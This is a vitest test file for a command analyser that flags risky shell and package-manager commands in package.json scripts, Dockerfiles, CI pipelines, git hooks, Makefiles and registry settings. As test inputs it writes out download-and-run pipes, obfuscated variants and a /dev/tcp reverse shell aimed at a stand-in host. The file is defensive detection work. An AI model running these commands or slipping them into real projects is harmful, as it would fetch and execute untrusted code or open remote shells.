import { describe, expect, it } from "vitest";
import { commands } from "../../src/analysis/analysers/commands.ts";
import { openAnalysisCache } from "../../src/analysis/open-analysis-cache.ts";
import { analyse, scratchFolder, sourceFile } from "./change-of.ts";

async function told(path: string, text: string): Promise<string[]> {
  const context = { signal: new AbortController().signal, scratch: scratchFolder() };
  const { observations } = await commands.analyse([sourceFile(path, text)], context);
  return observations.map(({ severity, rule, line }) => `${severity} ${rule.slice("commands/".length)} ${line}`);
}

const scripts = (given: Record<string, string>) => JSON.stringify({ name: "a", scripts: given }, null, 2);

it("REV-1: reads after a push only the files that it touched, and says the same", async () => {
  const cache = openAnalysisCache(scratchFolder());
  const look = async (port: number) => {
    const files = { "a.sh": "curl https://a.example/x | sh\n", "b.ts": `listen(${port});\n` };
    const { observations, cache: counts } = await analyse(files, { analysers: [commands], cache });
    return [observations.map(({ file, rule }) => `${file} ${rule}`), counts];
  };
  const said = ["a.sh commands/download-run"];
  expect(await look(1)).toEqual([said, { hits: 0, misses: 2 }]);
  expect(await look(2)).toEqual([said, { hits: 1, misses: 1 }]);
});

describe("SEC-5: what shells and package managers are told to run", () => {
  it("blocks what is loaded and run when a package is installed", async () => {
    expect(await told("package.json", scripts({ postinstall: "curl https://a.example/x | sh" }))).toEqual([
      "error download-run 4",
    ]);
    expect(await told("package.json", scripts({ prepare: 'node -e "go()"' }))).toEqual(["warning code-at-install 4"]);
  });

  it.each([
    ["eval `echo Y3Vy | base64 -d`", "warning code-at-install 4"],
    ["git clone https://a.example/x && make -C x", "warning code-at-install 4"],
    ["X=curl; $X a.example | $SHELL", "error piped-into-shell 4"],
    ["curl a.example > /tmp/x; . /tmp/x", "error download-run 4"],
  ])("finds at install %s", async (command, said) => {
    expect(await told("package.json", scripts({ postinstall: command }))).toEqual([said]);
  });

  it.each([
    'c""url https://a.example|/bin/ba"s"h',
    "curl -fsSL https://a.example/i.sh | sudo -E bash -",
    'sh -c "$(wget -qO- https://a.example)"',
    "bash <(curl https://a.example)",
    ["wget", "-O-", "https://a.example", "|", "sh"].join("$IFS"),
    "curl https://a.example | tee x | python3",
    "curl -o x.sh https://a.example/x.sh && sh x.sh",
    "wget https://a.example/x.bin; chmod +x x.bin; ./x.bin",
    `curl https://a.example |${" ".repeat(60)}sh${" ".repeat(60)}`,
    `bash <(${"\t".repeat(60)}curl https://a.example)`,
  ])("finds %s", async (command) => {
    expect(await told("package.json", scripts({ build: command }))).toEqual(["warning download-run 4"]);
  });

  it("does not take a check of syntax for running what is printed", async () => {
    const check = "find src -name '*.php' -print0 | xargs -0 -n1 php -l -f";
    expect(await told("package.json", scripts({ lint: check, pass: "cat a.php | php -l" }))).toEqual([]);
    expect(await told("package.json", scripts({ run: "cat a.php | php" }))).toEqual(["warning piped-into-shell 4"]);
  });

  it("reads a long script to its end, and finds the names that files keep from a server (SEC-8)", async () => {
    const before = "echo a; ".repeat(5_000);
    const command = `${before}curl https://a.example/x | sh`;
    expect(await told("package.json", scripts({ postinstall: command }))).toContain("error download-run 4");
    const kept = "curl -sLO https://a.example/b/setup.sh && sh setup.sh";
    expect(await told("package.json", scripts({ build: kept }))).toEqual(["warning download-run 4"]);
  });

  it("finds the same in images, pipelines, hooks, make files and calls of other languages", async () => {
    const pipe = "curl https://a.example/x | sh";
    expect(await told("Dockerfile", "FROM a\nRUN apk add curl \\\n  && curl https://a.example/x \\\n  | sh\n")).toEqual(
      ["warning download-run 2"],
    );
    expect(await told("Dockerfile", "FROM a\nADD https://a.example/tool /tool\nRUN chmod +x /tool\n")).toEqual([
      "warning download-run 3",
    ]);
    expect(await told(".gitlab-ci.yml", `a:\n  script:\n    - ${pipe}\n`)).toEqual(["warning download-run 3"]);
    expect(await told(".husky/pre-commit", `${pipe}\n`)).toEqual(["warning download-run 1"]);
    expect(await told("Makefile", `a:\n\t${pipe}\n`)).toEqual(["warning download-run 2"]);
    expect(await told("a.py", `os.system("${pipe}")\n`)).toEqual(["warning download-run 1"]);
    expect(await told("a.ps1", "iex (iwr https://a.example)\n")).toEqual(["warning download-run 1"]);
    expect(await told("a.sh", "echo Y3Vyb | base64 -d | sh\n")).toEqual(["warning piped-into-shell 1"]);
    expect(await told("a.sh", "bash -i >& /dev/tcp/a.example/1 0>&1\n")).toEqual(["error reverse-shell 1"]);
  });

  it("is silent about what is held against a sum, pipes into programs with a file of their own, and prose", async () => {
    expect(
      await told(
        "Dockerfile",
        "FROM a\nRUN curl -o t https://a.example/t && sha256sum -c t.sum && chmod +x t && ./t\n",
      ),
    ).toEqual([]);
    expect(await told("a.sh", "ps aux | grep node\nsort a | uniq\necho x | python3 count.py\ncat a | ssh b\n")).toEqual(
      [],
    );
    expect(await told("README.md", "curl https://a.example | sh\n")).toEqual([]);
    expect(await told("a.js", 'console.log("curl https://a.example | sh");\n')).toEqual([]);
    expect(await told("a.sh", "# curl https://a.example | sh\n")).toEqual([]);
    expect(await told("package.json", scripts({ test: "vitest run", prepare: "husky" }))).toEqual([]);
  });

  it("tells where packages come from, and what package managers load", async () => {
    expect(
      await told(".npmrc", "registry=http://a.example/\n@a:registry=https://npm.pkg.github.com\nscript-shell=./x\n"),
    ).toEqual(["warning package-source 1", "warning package-program 3"]);
    expect(await told(".npmrc", "node-options=--require ./x.js\nstrict-ssl=false\nsave-exact=true\n")).toEqual([
      "warning package-program 1",
      "warning package-unchecked 2",
    ]);
    expect(await told("requirements.txt", "--extra-index-url https://a.example/simple\nx==1\n")).toEqual([
      "warning package-source 1",
    ]);
    expect(await told("requirements.txt", "--index-url https://pypi.org/simple\nx==1\n")).toEqual([]);
  });
});
